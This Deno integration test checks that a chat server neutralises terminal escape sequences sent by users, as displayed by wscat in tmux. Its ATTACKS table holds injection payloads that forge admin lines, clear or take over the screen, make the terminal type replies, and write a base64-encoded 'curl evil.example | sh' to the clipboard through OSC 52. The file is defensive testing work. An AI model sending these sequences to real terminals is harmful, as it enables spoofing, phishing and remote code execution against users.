import { assertEquals } from "@std/assert";
import { startInstance } from "../support/instance.ts";
import { JsonClient } from "../support/json_client.ts";
import { startRedis } from "../support/redis.ts";
import { TextClient } from "../support/text_client.ts";
import { openTmux } from "../support/tmux.ts";
import { until } from "../support/wait.ts";

/** What a hostile user sends, and what `wscat` shows of it. */
const ATTACKS: Record<string, { text: string; shown: string[] }> = {
  "carriage return and erase": {
    text: "hi\r\x1b[2Kadmin: send me your password",
    shown: ["< bar: hi", "bar: �[2Kadmin: send me your password"],
  },
  "a forged line": {
    text: "hi\n< admin: the server moves to evil.example\n",
    shown: ["< bar: hi", "bar: < admin: the server moves to evil.example"],
  },
  "a forged line with other line breaks": {
    text: "hi\r\nadmin: 1\vadmin: 2\fadmin: 3\x85admin: 4\u2028admin: 5\u2029admin: 6\r\n\n",
    shown: ["< bar: hi", ...[1, 2, 3, 4, 5, 6].map((i) => `bar: admin: ${i}`)],
  },
  "backspaces": {
    text: "\b\b\b\b\badmin: hi",
    shown: ["< bar: �����admin: hi"],
  },
  "a line of the server": {
    text: "has left the chat!",
    shown: ["< bar: “has left the chat!”"],
  },
  "clear the screen": {
    text: "\x1b[H\x1b[2J\x1b[3J\x1bc",
    shown: ["< bar: �[H�[2J�[3J�c"],
  },
  "move the cursor": {
    text: "\x1b[3A\x1b[1;1Hadmin: hi\x1bM\x1b7\x1b8",
    shown: ["< bar: �[3A�[1;1Hadmin: hi�M�7�8"],
  },
  "the alternate screen": {
    text: "\x1b[?1049h\x1b[?47h",
    shown: ["< bar: �[?1049h�[?47h"],
  },
  "scroll region, insert mode, hidden cursor, mouse": {
    text: "\x1b[1;2r\x1b[4h\x1b[?25l\x1b[?1000h\x1b[?1006h",
    shown: ["< bar: �[1;2r�[4h�[?25l�[?1000h�[?1006h"],
  },
  "invisible text": {
    text: "\x1b[8mhidden\x1b[0m",
    shown: ["< bar: �[8mhidden�[0m"],
  },
  "the title": {
    text: "\x1b]0;evil\x07\x1b]2;evil\x1b\\\x1bkevil\x1b\\",
    shown: ["< bar: �]0;evil��]2;evil�\\�kevil�\\"],
  },
  "the clipboard, OSC 52": {
    text: "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    shown: ["< bar: �]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==�"],
  },
  "the clipboard, passed through tmux": {
    text: "\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\",
    shown: ["< bar: �Ptmux;��]52;c;ZXZpbA==��\\"],
  },
  "device status, which the terminal types as an answer": {
    text: "\x1b[6n\x1b[5n\x1b[c\x1b[>c\x05\x1bP$qm\x1b\\\x1b]10;?\x07",
    shown: ["< bar: �[6n�[5n�[c�[>c��P$qm�\\�]10;?�"],
  },
  "the same as C1 controls": {
    text: "\x9b2J\x9b6n\x9d2;evil\x9c\x8d\x90tmux;\x9c",
    shown: ["< bar: �2J�6n�2;evil���tmux;�"],
  },
  "the character set": {
    text: "\x1b(0lqqk\x0elqqk\x0f\x1b)0\x1bn",
    shown: ["< bar: �(0lqqk�lqqk��)0�n"],
  },
  "another direction": {
    text: "\u202eyas ot\u202c \u2066\u2069\u200f\u061c",
    shown: ["< bar: �yas ot� ����"],
  },
};

Deno.test("no escape sequence that a user sends changes what wscat in tmux shows", async () => {
  await using redis = await startRedis();
  await using instance = await startInstance(redis.env);
  const url = `ws://127.0.0.1:${instance.port}/chat/foo`;
  await using terminal = await openTmux(`npx -y wscat@6.1.0 -c ${url}`);

  /** Waits until the terminal shows a line. */
  async function untilShown(line: string): Promise<void> {
    await until(async () => (await terminal.screen()).includes(line), 20);
  }

  await untilShown("< Welcome foo!");
  const state = "#{pane_title} #{window_name} #{alternate_on} #{cursor_flag} #{insert_flag} " +
    "#{mouse_any_flag} #{scroll_region_upper}-#{scroll_region_lower} #{window_bell_flag}";
  const before = await terminal.read(state);
  const bar = await TextClient.join(instance.port, "bar");
  const baz = await JsonClient.join(instance.port, "baz");
  for (const { text } of Object.values(ATTACKS)) bar.send(text);
  bar.send("bye");
  await untilShown("< bar: bye");
  baz.send({ type: "message", text: "half \ud83d of an emoji" });
  await untilShown("< baz: half � of an emoji");
  await redis.command("PUBLISH", "chat", "ops: \x1b[2Jdeploy\r\nat five\n");
  await untilShown("at five");

  assertEquals(await terminal.screen(), [
    "Connected (press CTRL+C to quit)",
    "< Welcome foo!",
    "< bar: has joined the chat!",
    "< baz: has joined the chat!",
    ...Object.values(ATTACKS).flatMap(({ shown }) => shown),
    "< bar: bye",
    "< baz: half � of an emoji",
    "< ops: �[2Jdeploy",
    "at five",
    ">",
  ]);
  assertEquals(await terminal.read(state), before);
  assertEquals(await terminal.clipboard(), "");

  // The terminal has typed no answer of its own before this.
  await terminal.type("hi from foo");
  await bar.until("foo: hi from foo");
  await baz.receivedMessages(Object.keys(ATTACKS).length + 3);
  // JSON carries each text as it was sent.
  const texts = baz.all("message").map(({ text }) => text);
  assertEquals(texts.slice(0, -3), Object.values(ATTACKS).map(({ text }) => text));
  await Promise.all([bar.leave(), baz.leave()]);
});
